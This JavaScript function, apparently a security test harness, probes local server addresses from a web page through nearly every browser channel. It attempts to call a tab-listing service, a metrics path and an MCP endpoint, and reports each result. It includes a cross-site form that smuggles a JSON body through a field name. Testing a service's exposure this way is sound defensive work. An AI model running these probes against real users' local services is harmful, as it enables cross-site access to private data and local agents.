// attack tries to reach a server by every means that a page has, with the right token where the means lets it say one, and
// tells what it got. It is run as a function, with the addresses and the token as data.
async (targets, token) => {
  const limit = 1500; // for what never says how it ended; what came through is counted where it comes
  const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, limit, 'nothing'))]);
  const tried = async (what) => {
    try {
      return String(await within(what()));
    } catch (e) {
      return 'failed';
    }
  };
  const element = (tag, set) => () => new Promise((done) => {
    const e = document.createElement(tag);
    e.onload = () => done(tag + ' loaded');
    e.onerror = () => done('failed');
    set(e);
    document.head.append(e);
  });
  const frame = (go) => () => new Promise((done) => {
    const f = document.createElement('iframe');
    f.name = 'f' + Math.random();
    document.body.append(f);
    f.onload = () => {
      let text;
      try {
        text = f.contentDocument ? f.contentDocument.documentElement.textContent : 'unreadable';
      } catch (e) {
        text = 'unreadable';
      }
      done(text.includes('tabs') ? text : 'unreadable');
    };
    go(f);
  });
  const form = (to, type) => frame((f) => {
    const form = document.createElement('form');
    Object.assign(form, { action: to, method: 'post', enctype: type, target: f.name });
    const field = document.createElement('input');
    Object.assign(field, { name: '{"url":"about:blank","x":"', value: '"}' });
    form.append(field);
    document.body.append(form);
    form.submit();
  });
  const read = (how) => async () => {
    const r = await how();
    return r.type === 'opaque' ? 'opaque' : r.status + ' ' + (await r.text()).slice(0, 200);
  };
  const attempt = async ([name, base]) => {
    const call = base + '/domtap.v1.TabService/ListTabs';
    const json = { method: 'POST', body: '{}', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } };
    const means = {
      'fetch': read(() => fetch(call, json)),
      'fetch, h2c': read(() => fetch(call, { ...json, headers: { ...json.headers, 'content-type': 'application/grpc' } })),
      'fetch without cors': read(() => fetch(call, { method: 'POST', body: '{}', mode: 'no-cors' })),
      'get without cors': read(() => fetch(base + '/metrics', { mode: 'no-cors' })),
      'get': read(() => fetch(base + '/metrics')),
      'mcp': read(() => fetch(base + '/mcp', { ...json, body: '{"jsonrpc":"2.0","id":1,"method":"ping"}' })),
      'xhr': () => new Promise((done) => {
        const x = new XMLHttpRequest();
        x.open('POST', call);
        x.setRequestHeader('content-type', 'text/plain');
        x.onloadend = () => done(x.status ? x.status + ' ' + x.responseText.slice(0, 200) : 'failed');
        x.send('{}');
      }),
      'beacon': async () => { navigator.sendBeacon(call, new Blob(['{}'], { type: 'text/plain' })); return 'sent'; },
      'image': element('img', (e) => { e.src = base + '/'; }),
      'script': element('script', (e) => { e.src = base + '/'; }),
      'style': element('link', (e) => { e.rel = 'stylesheet'; e.href = base + '/'; }),
      'preload': element('link', (e) => { e.rel = 'modulepreload'; e.href = base + '/'; }),
      'frame': frame((f) => { f.src = base + '/'; }),
      'form': form(call, 'text/plain'),
      'form, encoded': form(call, 'application/x-www-form-urlencoded'),
      'WebSocket': () => new Promise((done) => {
        const s = new WebSocket(base.replace('http', 'ws') + '/');
        s.onopen = () => done('open');
        s.onerror = () => done('failed');
      }),
      'EventSource': () => new Promise((done) => {
        const s = new EventSource(base + '/');
        s.onopen = () => done('open');
        s.onmessage = (e) => done(e.data);
        s.onerror = () => { s.close(); done('failed'); };
      }),
      'worker': async () => { new Worker(base + '/'); return 'begun'; },
    };
    const names = Object.keys(means);
    const got = await Promise.all(names.map((m) => tried(means[m])));
    return [name, Object.fromEntries(names.map((m, i) => [m, got[i]]))];
  };
  return Object.fromEntries(await Promise.all(Object.entries(targets).map(attempt)));
}
